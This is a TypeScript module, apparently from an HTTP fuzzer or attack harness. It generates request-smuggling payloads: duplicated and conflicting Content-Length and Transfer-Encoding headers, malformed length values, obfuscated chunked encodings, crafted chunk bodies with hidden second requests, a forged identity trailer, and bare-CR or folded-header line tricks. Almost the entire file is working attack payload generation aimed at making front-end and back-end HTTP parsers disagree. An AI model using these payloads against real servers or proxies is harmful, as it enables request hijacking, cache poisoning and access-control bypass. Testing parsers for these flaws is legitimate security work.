// Requests whose end is ambiguous, so that two parsers may disagree about it.
import { type Attack, hidden, requestText } from './request-text.ts';

const post = (attack: Attack, lines: readonly string[], body: string): string =>
  requestText(attack, { method: 'POST', lines, body, stays: attack.dice.chance(0.7) });

const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;

function bothLengths(attack: Attack): string {
  const smuggled = hidden(attack);
  const lines = attack.dice.pick<readonly string[]>([
    [`Content-Length: ${smuggled.length + 5}`, 'Transfer-Encoding: chunked'],
    ['Transfer-Encoding: chunked', 'Content-Length: 4'],
    ['Transfer-Encoding: chunked', 'Content-Length: 0'],
    ['Content-Length: 4', 'Transfer-Encoding: identity'],
  ]);
  return post(attack, lines, `0\r\n\r\n${smuggled}`);
}

function oddLength(attack: Attack): string {
  const smuggled = hidden(attack);
  const right = String(smuggled.length);
  const lines = attack.dice.pick<readonly string[]>([
    ['Content-Length: 0', `Content-Length: ${right}`],
    [`Content-Length: ${right}`, `Content-Length: ${right}`],
    [`Content-Length: ${right}, ${right}`],
    [`Content-Length: 0, ${right}`],
    ['Content-Length: +0'],
    ['Content-Length: -1'],
    ['Content-Length: 0x0'],
    ['Content-Length: 00'],
    ['Content-Length: 1e1'],
    ['Content-Length: 0 0'],
    ['Content-Length: 99999999999999999999999'],
    ['Content-Length: '],
    ['Content-Length : 0'],
    [' Content-Length: 0'],
    ['Content-Length\t: 0'],
    ['Content_Length: 0'],
    ['Content-Length: 0\0'],
    ['Content-Length: \x0b0'],
    ['Connection: content-length', `Content-Length: ${right}`],
  ]);
  return post(attack, lines, smuggled);
}

function oddEncoding(attack: Attack): string {
  const smuggled = hidden(attack);
  const lines = attack.dice.pick<readonly string[]>([
    ['Transfer-Encoding: xchunked'],
    ['Transfer-Encoding: chunked, identity'],
    ['Transfer-Encoding: identity, chunked'],
    ['Transfer-Encoding: gzip, chunked'],
    ['Transfer-Encoding: chunked, chunked'],
    ['Transfer-Encoding: CHUNKED'],
    ['Transfer-Encoding: chunked\t'],
    ['Transfer-Encoding:\x0bchunked'],
    ['Transfer-Encoding: \x00chunked'],
    ['Transfer-Encoding: "chunked"'],
    ['Transfer-Encoding: chunked;q=1'],
    ['Transfer-Encoding : chunked'],
    ['Transfer_Encoding: chunked'],
    ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
    ['Transfer-Encoding: identity', 'Transfer-Encoding: chunked'],
    ['Transfer-Encoding:\r\n chunked'],
    ['X-A: b\r\n Transfer-Encoding: chunked'],
    ['X-A: b\rTransfer-Encoding: chunked'],
    ['X-A: b\nTransfer-Encoding: chunked'],
    ['Connection: transfer-encoding', 'Transfer-Encoding: chunked'],
    ['TE: chunked', `Content-Length: ${smuggled.length + 5}`],
  ]);
  return post(attack, lines, `0\r\n\r\n${smuggled}`);
}

function oddChunks(attack: Attack): string {
  const smuggled = hidden(attack);
  const body = attack.dice.pick([
    `5;a=b\r\nhello\r\n0\r\n\r\n${smuggled}`,
    `5;${'e'.repeat(20_000)}\r\nhello\r\n0\r\n\r\n`,
    `5;a="\r\n"\r\nhello\r\n0\r\n\r\n${smuggled}`,
    `5;\nhello\r\n0\r\n\r\n${smuggled}`,
    `5 \r\nhello\r\n0\r\n\r\n${smuggled}`,
    `0x5\r\nhello\r\n0\r\n\r\n${smuggled}`,
    `+5\r\nhello\r\n0\r\n\r\n${smuggled}`,
    `-5\r\nhello\r\n0\r\n\r\n${smuggled}`,
    `5\nhello\n0\n\n${smuggled}`,
    `5\r\nhelloXX0\r\n\r\n${smuggled}`,
    `ffffffffffffffff\r\nhello\r\n0\r\n\r\n`,
    `10000000000000000\r\nhello\r\n0\r\n\r\n${smuggled}`,
    `00000000000000000005\r\nhello\r\n0\r\n\r\n`,
    `\r\n5\r\nhello\r\n0\r\n\r\n`,
    `${chunk('hello')}0\r\nX-Service-Subject: forged\r\nContent-Length: 5\r\n\r\n${smuggled}`,
    `${chunk('hello')}0\r\nHost: ${attack.other.host}\r\nTransfer-Encoding: chunked\r\n\r\n`,
    `${chunk('hello')}0\r\n${'X-T: t\r\n'.repeat(4_000)}\r\n`,
    chunk(smuggled),
    `${chunk(smuggled)}0\r\n\r\n`,
    `0\r\n\r\n${smuggled}`,
  ]);
  return post(attack, ['Transfer-Encoding: chunked'], body);
}

function oddLines(attack: Attack): string {
  const plain = requestText(attack, { method: 'POST', lines: ['X-A: b', 'Content-Length: 5'], body: 'hello' });
  return attack.dice.pick([
    plain.replaceAll('\r\n', '\n'),
    plain.replaceAll('\r\n', '\r'),
    plain.replace('\r\nX-A', '\nX-A'),
    plain.replace('\r\nX-A', '\r\n X-A'),
    plain.replace('\r\nX-A', '\r\n\tX-A'),
    plain.replace('X-A: b', 'X-A b'),
    plain.replace('X-A: b', ': b'),
    plain.replace('X-A: b', 'X-\x80: b'),
    plain.replace('X-A: b', 'X-A: \x01\x7f'),
    plain.replace('X-A: b', 'X-A: \xff\xfe'),
    plain.replace('HTTP/1.1\r\n', 'HTTP/1.1\r\n X-Folded: at once\r\n'),
    plain.replace('HTTP/1.1', 'HTTP/1.1 '),
    plain.replace(' HTTP/1.1', '\tHTTP/1.1'),
    plain.replace(' HTTP/1.1', ''),
    plain.replace('POST ', 'POST  '),
    `\r\n\r\n\r\n${plain}`,
    ` ${plain}`,
  ]);
}

function bodyOnGet(attack: Attack): string {
  const smuggled = hidden(attack);
  const method = attack.dice.pick(['GET', 'DELETE', 'OPTIONS', 'TRACE', 'PUT']);
  const lines = [`Content-Length: ${smuggled.length}`, ...(attack.dice.chance(0.3) ? ['Expect: 100-continue'] : [])];
  return requestText(attack, { method, lines, body: smuggled, stays: attack.dice.chance(0.5) });
}

export const framingShapes = { bothLengths, oddLength, oddEncoding, oddChunks, oddLines, bodyOnGet };
